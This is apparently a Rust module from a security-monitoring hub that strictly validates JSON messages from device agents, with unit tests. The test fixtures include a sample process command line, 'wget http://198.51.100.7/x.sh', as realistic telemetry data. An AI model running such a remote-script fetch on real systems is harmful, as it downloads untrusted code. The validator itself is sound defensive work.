//! Reading a message strictly: unknown fields, missing fields, wrong types and sizes are refused by name.

use crate::MESSAGE_BYTES_MAX;
use crate::message::{Category, Event, EventType, SecurityMessage};
use crate::schema::{self, EventSchema, Field, Kind};
use serde_json::{Map, Value};
use std::fmt;
use std::net::IpAddr;

/// What is wrong with a message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Invalid {
    /// The path of the field, such as `Events[0].Payload[2].ProcessId`; empty for the message as a whole.
    pub field: String,
    /// A fragment that says what is wrong and what is wanted.
    pub problem: String,
}

impl fmt::Display for Invalid {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.field.as_str() {
            "" => write!(f, "the message {}", self.problem),
            field => write!(f, "{field} {}", self.problem),
        }
    }
}

impl std::error::Error for Invalid {}

/// Payload items of one message, over all its events; each becomes a row.
const ITEMS_MAX: usize = 5_000;

type Result<T> = std::result::Result<T, Invalid>;

fn invalid<T>(field: impl Into<String>, problem: impl Into<String>) -> Result<T> {
    Err(Invalid { field: field.into(), problem: problem.into() })
}

/// Reads a message. The first thing that is wrong with it is the error.
pub fn parse(bytes: &[u8]) -> Result<SecurityMessage> {
    if bytes.len() > MESSAGE_BYTES_MAX {
        return invalid("", format!("has {} bytes, at most {MESSAGE_BYTES_MAX} are allowed", bytes.len()));
    }
    let value: Value = match serde_json::from_slice(bytes) {
        Ok(value) => value,
        Err(error) => return invalid("", format!("is not JSON: {error}")),
    };
    let object = as_object(&value, "")?;
    only(object, "", &["AgentVersion", "AgentId", "MessageSchemaVersion", "Events"])?;
    let message = SecurityMessage {
        agent_version: text(object, "", "AgentVersion")?,
        agent_id: guid(object, "", "AgentId")?,
        message_schema_version: version(object, "", "MessageSchemaVersion")?,
        events: array(object, "", "Events")?
            .iter()
            .enumerate()
            .map(|(i, e)| event(e, &format!("Events[{i}]")))
            .collect::<Result<_>>()?,
    };
    if message.events.is_empty() {
        return invalid("Events", "is empty, at least one event is wanted");
    }
    let items: usize = message.events.iter().map(|e| e.payload.len()).sum();
    if items > ITEMS_MAX {
        return invalid("Events", format!("has {items} payload items, at most {ITEMS_MAX} are allowed"));
    }
    for (i, event) in message.events.iter().enumerate() {
        if message.events[..i].iter().any(|e| e.id == event.id) {
            return invalid(format!("Events[{i}].Id"), "is that of an earlier event of the message");
        }
    }
    Ok(message)
}

fn event(value: &Value, at: &str) -> Result<Event> {
    let object = as_object(value, at)?;
    only(
        object,
        at,
        &[
            "Id",
            "TimestampLocal",
            "TimestampUTC",
            "Category",
            "Name",
            "EventType",
            "IsEmpty",
            "PayloadSchemaVersion",
            "Payload",
        ],
    )?;
    let name = text(object, at, "Name")?;
    let Some(wanted_type) = schema::event_type(&name) else {
        return invalid(path(at, "Name"), format!("is {}, which is no event type", quoted(&name)));
    };
    let category = match text(object, at, "Category")?.as_str() {
        "Periodic" => Category::Periodic,
        "Triggered" => Category::Triggered,
        "Aggregated" => Category::Aggregated,
        other => {
            return invalid(
                path(at, "Category"),
                format!("is {}, wanted Periodic, Triggered or Aggregated", quoted(other)),
            );
        }
    };
    let event_type = match text(object, at, "EventType")?.as_str() {
        "Security" => EventType::Security,
        "Operational" => EventType::Operational,
        "Diagnostic" => EventType::Diagnostic,
        other => {
            return invalid(
                path(at, "EventType"),
                format!("is {}, wanted Security, Operational or Diagnostic", quoted(other)),
            );
        }
    };
    if event_type != wanted_type {
        let problem = format!("is {}, events of type {name} are {}", event_type.name(), wanted_type.name());
        return invalid(path(at, "EventType"), problem);
    }
    let is_empty = match required(object, at, "IsEmpty")? {
        Value::Bool(flag) => *flag,
        _ => return invalid(path(at, "IsEmpty"), "is not true or false"),
    };
    let items = array(object, at, "Payload")?;
    if is_empty && (category != Category::Periodic || !items.is_empty()) {
        return invalid(path(at, "IsEmpty"), "is true, which only a Periodic event with an empty Payload may say");
    }
    if !is_empty && items.is_empty() {
        return invalid(path(at, "Payload"), "is empty, at least one item is wanted");
    }
    let payload =
        items.iter().enumerate().map(|(i, v)| item(v, &name, &format!("{at}.Payload[{i}]"))).collect::<Result<_>>()?;
    Ok(Event {
        id: guid(object, at, "Id")?,
        timestamp_local: timestamp(object, at, "TimestampLocal")?,
        timestamp_utc: timestamp(object, at, "TimestampUTC")?,
        category,
        name,
        event_type,
        is_empty,
        payload_schema_version: version(object, at, "PayloadSchemaVersion")?,
        payload,
    })
}

/// The shape that an item of the event type `name` has: the first that it fits whole.
pub fn shape(name: &str, item: &Map<String, Value>) -> Option<&'static EventSchema> {
    schema::shapes(name).find(|shape| fits(item, shape, "").is_ok())
}

/// An item that fits one of the shapes of its event type. One that fits none is told what the shape with the most
/// of its fields wants.
fn item(value: &Value, name: &str, at: &str) -> Result<Map<String, Value>> {
    let object = as_object(value, at)?;
    let known = |shape: &EventSchema| shape.fields.iter().filter(|f| object.contains_key(f.name)).count();
    let mut nearest: Option<(usize, Invalid)> = None;
    for shape in schema::shapes(name) {
        match fits(object, shape, at) {
            Ok(()) => return Ok(object.clone()),
            Err(refusal) if nearest.as_ref().is_none_or(|(count, _)| known(shape) > *count) => {
                nearest = Some((known(shape), refusal));
            }
            Err(_) => {}
        }
    }
    match nearest {
        Some((_, refusal)) => Err(refusal),
        None => invalid(at, format!("is of {}, which is no event type", quoted(name))),
    }
}

fn fits(object: &Map<String, Value>, shape: &EventSchema, at: &str) -> Result<()> {
    const EXTRA: Field = schema::may("ExtraDetails", Kind::Properties);
    fields(object, shape.name, shape.fields, Some(&EXTRA), at)?;
    if !shape.one_of.is_empty() && !shape.one_of.iter().any(|name| object.contains_key(*name)) {
        return invalid(at, format!("has none of {}, one is wanted", shape.one_of.join(", ")));
    }
    Ok(())
}

/// Whether the object `of` has the fields that it must have and no others.
fn fields(
    object: &Map<String, Value>,
    of: &str,
    known: &'static [Field],
    extra: Option<&Field>,
    at: &str,
) -> Result<()> {
    for (name, value) in object {
        match known.iter().chain(extra).find(|f| f.name == name) {
            Some(field) => check(value, field.kind, &path(at, name))?,
            None => return invalid(path(at, name), format!("is no field of {of}")),
        }
    }
    known.iter().filter(|f| f.is_required).try_for_each(|field| required(object, at, field.name).map(|_| ()))
}

fn check(value: &Value, kind: Kind, at: &str) -> Result<()> {
    let text = value.as_str();
    let wanted = match kind {
        Kind::Integer if value.is_i64() || value.is_u64() => return Ok(()),
        Kind::Integer => "an integer",
        Kind::Bool if value.is_boolean() => return Ok(()),
        Kind::Bool => "true or false",
        Kind::Text if text.is_some() => return Ok(()),
        Kind::Text => "a string",
        Kind::Guid if text.is_some_and(is_guid) => return Ok(()),
        Kind::Guid => "a guid of 36 characters",
        Kind::Address if text.is_some_and(|t| t.parse::<IpAddr>().is_ok()) => return Ok(()),
        Kind::Address => "an IPv4 or IPv6 address, as a string",
        Kind::Port if text.is_some_and(is_port) => return Ok(()),
        Kind::Port => "a port, a range a-b, a list a,b or *, as a string",
        Kind::PortNumber if value.as_u64().is_some_and(|port| port <= u64::from(u16::MAX)) => return Ok(()),
        Kind::PortNumber => "a port from 0 to 65535, as a number",
        Kind::Properties if value.is_object() => {
            for (name, value) in as_object(value, at)? {
                check(value, Kind::Text, &path(at, name))?;
            }
            return Ok(());
        }
        Kind::Properties => "a JSON object",
        Kind::List(known) => {
            let Value::Array(items) = value else {
                return invalid(at, format!("is {}, wanted a JSON array", brief(value)));
            };
            for (i, item) in items.iter().enumerate() {
                let at = format!("{at}[{i}]");
                fields(as_object(item, &at)?, "this list", known, None, &at)?;
            }
            return Ok(());
        }
        Kind::OneOf(words) => match text {
            Some(t) if words.contains(&t) => return Ok(()),
            _ => return invalid(at, format!("is {}, wanted one of {}", brief(value), words.join(", "))),
        },
    };
    invalid(at, format!("is {}, wanted {wanted}", brief(value)))
}

/// The value as it stands in a message, cut to a readable length.
fn brief(value: &Value) -> String {
    const LENGTH_MAX: usize = 60;
    let text = value.to_string();
    if text.chars().count() <= LENGTH_MAX { text } else { text.chars().take(LENGTH_MAX).chain("…".chars()).collect() }
}

fn is_guid(text: &str) -> bool {
    text.len() == 36 && kql::parse_guid(text).is_some()
}

fn is_port(text: &str) -> bool {
    let number = |t: &str| t.trim().parse::<u16>().is_ok();
    let range = |t: &str| t.split_once('-').map_or_else(|| number(t), |(a, b)| number(a) && number(b));
    matches!(text, "" | "*") || text.split(',').all(range)
}

/// The path of a field. A name that the sender made up is cut and stripped of what could break a line.
fn path(at: &str, name: &str) -> String {
    const NAME_CHARS_MAX: usize = 60;
    let name: String = name.chars().filter(|c| !c.is_control()).take(NAME_CHARS_MAX).collect();
    if at.is_empty() { name } else { format!("{at}.{name}") }
}

/// The sender's text in quotes, cut, with line breaks escaped.
fn quoted(text: &str) -> String {
    brief(&Value::String(text.to_owned()))
}

fn as_object<'v>(value: &'v Value, at: &str) -> Result<&'v Map<String, Value>> {
    match value {
        Value::Object(object) => Ok(object),
        _ => invalid(at, "is not a JSON object"),
    }
}

fn only(object: &Map<String, Value>, at: &str, known: &[&str]) -> Result<()> {
    match object.keys().find(|name| !known.contains(&name.as_str())) {
        Some(unknown) => invalid(path(at, unknown), "is no field of a security message"),
        None => Ok(()),
    }
}

fn required<'v>(object: &'v Map<String, Value>, at: &str, name: &str) -> Result<&'v Value> {
    object.get(name).map_or_else(|| invalid(path(at, name), "is missing"), Ok)
}

fn text(object: &Map<String, Value>, at: &str, name: &str) -> Result<String> {
    match required(object, at, name)? {
        Value::String(text) => Ok(text.clone()),
        other => invalid(path(at, name), format!("is {}, wanted a string", brief(other))),
    }
}

fn guid(object: &Map<String, Value>, at: &str, name: &str) -> Result<String> {
    let found = text(object, at, name)?;
    if is_guid(&found) { Ok(found) } else { invalid(path(at, name), "is no guid of 36 characters") }
}

fn version(object: &Map<String, Value>, at: &str, name: &str) -> Result<String> {
    match text(object, at, name)?.as_str() {
        "1.0" => Ok("1.0".to_owned()),
        other => invalid(path(at, name), format!("is {}, this hub reads version 1.0", quoted(other))),
    }
}

fn timestamp(object: &Map<String, Value>, at: &str, name: &str) -> Result<String> {
    let found = text(object, at, name)?;
    match kql::datetime::parse(&found) {
        Some(_) => Ok(found),
        None => invalid(path(at, name), format!("is {}, which is no date and time", quoted(&found))),
    }
}

fn array<'v>(object: &'v Map<String, Value>, at: &str, name: &str) -> Result<&'v Vec<Value>> {
    match required(object, at, name)? {
        Value::Array(items) => Ok(items),
        _ => invalid(path(at, name), "is not an array"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::schema::Agent;
    use serde_json::json;

    fn message(change: impl FnOnce(&mut Value)) -> std::result::Result<SecurityMessage, String> {
        let mut value = json!({
            "AgentVersion": "0.1.0", "AgentId": "1b6f0c52-3a77-4c0e-9a50-2f4f5d1f7a11", "MessageSchemaVersion": "1.0",
            "Events": [{
                "Id": "a3d8c1f4-7f0e-4f9b-8a2d-2b9c5e6d7f80",
                "TimestampLocal": "2026-03-02T10:15:00.000+01:00", "TimestampUTC": "2026-03-02T09:15:00.000Z",
                "Category": "Triggered", "Name": "ProcessCreate", "EventType": "Security", "IsEmpty": false,
                "PayloadSchemaVersion": "1.0",
                "Payload": [{ "Executable": "/usr/bin/wget", "ProcessId": 812, "ParentProcessId": 790,
                    "UserId": "1000", "UserName": "pump", "CommandLine": "wget http://198.51.100.7/x.sh",
                    "ExtraDetails": { "Hash": "0" } }],
            }],
        });
        change(&mut value);
        parse(value.to_string().as_bytes()).map_err(|e| e.to_string())
    }

    fn refused(change: impl FnOnce(&mut Value)) -> String {
        message(change).expect_err("a refusal")
    }

    #[test]
    fn takes_a_message_whole() {
        let parsed = message(|_| {}).expect("a message");
        assert_eq!(parsed.events[0].name, "ProcessCreate");
        let again = serde_json::to_vec(&parsed).expect("serialised");
        assert_eq!(parse(&again).as_ref(), Ok(&parsed), "what is sent is what is read");
    }

    #[test]
    fn names_the_field_that_is_wrong() {
        assert_eq!(refused(|m| m["Extra"] = json!(1)), "Extra is no field of a security message");
        assert_eq!(refused(|m| m["AgentId"] = json!("x")), "AgentId is no guid of 36 characters");
        assert_eq!(
            refused(|m| m["MessageSchemaVersion"] = json!("2.0")),
            "MessageSchemaVersion is \"2.0\", this hub reads version 1.0"
        );
        assert_eq!(refused(|m| m["Events"] = json!([])), "Events is empty, at least one event is wanted");
        assert_eq!(
            refused(|m| m["Events"][0]["Name"] = json!("Nothing")),
            "Events[0].Name is \"Nothing\", which is no event type"
        );
        assert_eq!(
            refused(|m| m["Events"][0]["Payload"][0]["ProcessId"] = json!("812")),
            "Events[0].Payload[0].ProcessId is \"812\", wanted an integer"
        );
        assert_eq!(
            refused(|m| m["Events"][0]["Payload"][0]["Shell"] = json!("sh")),
            "Events[0].Payload[0].Shell is no field of ProcessCreate"
        );
        assert_eq!(
            refused(|m| m["Events"][0]["IsEmpty"] = json!(true)),
            "Events[0].IsEmpty is true, which only a Periodic event with an empty Payload may say"
        );
        assert_eq!(
            refused(|m| m["Events"][0]["Category"] = json!("Daily")),
            "Events[0].Category is \"Daily\", wanted Periodic, Triggered or Aggregated"
        );
        assert!(
            refused(|m| m["Events"][0]["Payload"][0]["UserName"] = json!("x".repeat(MESSAGE_BYTES_MAX)))
                .contains("at most 262144 are allowed")
        );
        assert_eq!(parse(b"{").map_err(|e| e.field), Err(String::new()));
    }

    #[test]
    fn a_login_names_its_user_one_way_or_the_other() {
        let login = |item: Value| {
            message(|m| {
                m["Events"][0]["Name"] = json!("Login");
                m["Events"][0]["Payload"] = json!([item]);
            })
        };
        let base = json!({"ProcessId": 1, "Operation": "login", "Executable": "sshd", "Result": "Fail"});
        assert!(login(base.clone()).expect_err("refused").contains("has none of UserId, UserName"));
        let mut with_name = base;
        with_name["UserName"] = json!("root");
        assert!(login(with_name).is_ok());
    }

    #[test]
    fn items_of_the_micro_agent_have_their_own_names_and_types() {
        let item = |name: &str, item: Value| {
            message(|m| {
                m["Events"][0]["Name"] = json!(name);
                m["Events"][0]["Payload"] = json!([item]);
            })
            .map(|m| shape(name, &m.events[0].payload[0]).map(|s| s.agent))
        };
        let micro = Ok(Some(Agent::Micro));
        let process = json!({"EventType": "EXEC", "ProcessId": 812, "UserId": 1000, "Executable": "/usr/bin/wget",
            "Commandline": "wget http://198.51.100.7/x.sh", "HitCount": 3});
        assert_eq!(item("Process", process), micro);
        let mut connection = json!({"LocalAddress": "192.0.2.20", "LocalPort": 51544, "RemoteAddress": "203.0.113.9",
            "RemotePort": 443, "Protocol": "TCP", "ExtendedProperties": {"HostName": "example.org"}});
        assert_eq!(item("NetworkActivity", connection.clone()), micro);
        connection["RemotePort"] = json!(65536);
        assert_eq!(
            item("NetworkActivity", connection),
            Err("Events[0].Payload[0].RemotePort is 65536, wanted a port from 0 to 65535, as a number".to_owned())
        );
        let mut system = json!({"OsDist": "Debian", "OsVersion": "11", "OsPlatform": "Linux", "OsArch": "armv7l",
            "Nics": [{"Type": "ETH", "Info": [{"Ipv4Address": "192.0.2.20", "Mac": "02:00:5e:10:00:01"}]}]});
        assert_eq!(item("SystemInformation", system.clone()), micro);
        system["Nics"][0]["Info"][0]["Speed"] = json!(1);
        assert_eq!(
            item("SystemInformation", system),
            Err("Events[0].Payload[0].Nics[0].Info[0].Speed is no field of this list".to_owned())
        );
        assert_eq!(
            item("Process", json!({"EventType": "EXEC", "ProcessId": "812"})),
            Err("Events[0].Payload[0].ProcessId is \"812\", wanted an integer".to_owned())
        );
    }

    #[test]
    fn a_login_has_either_agents_shape() {
        let login = |fields: Value| {
            let base = json!({"ProcessId": 1, "UserName": "root", "Executable": "ssh:notty"});
            let mut item = base.as_object().cloned().unwrap_or_default();
            item.extend(fields.as_object().cloned().unwrap_or_default());
            shape("Login", &item).map(|s| s.agent)
        };
        let remote = "198.51.100.23";
        assert_eq!(login(json!({"Operation": "LoginFailed", "RemoteAddress": remote})), Some(Agent::Micro));
        assert_eq!(login(json!({"Operation": "su", "Result": "Fail", "RemoteAddress": remote})), Some(Agent::Legacy));
        assert_eq!(login(json!({"Operation": "su"})), None);
    }

    #[test]
    fn ports() {
        assert!(is_port("22") && is_port("1-1024") && is_port("80,443") && is_port("*"));
        assert!(!is_port("65536") && !is_port("ssh"));
    }
}
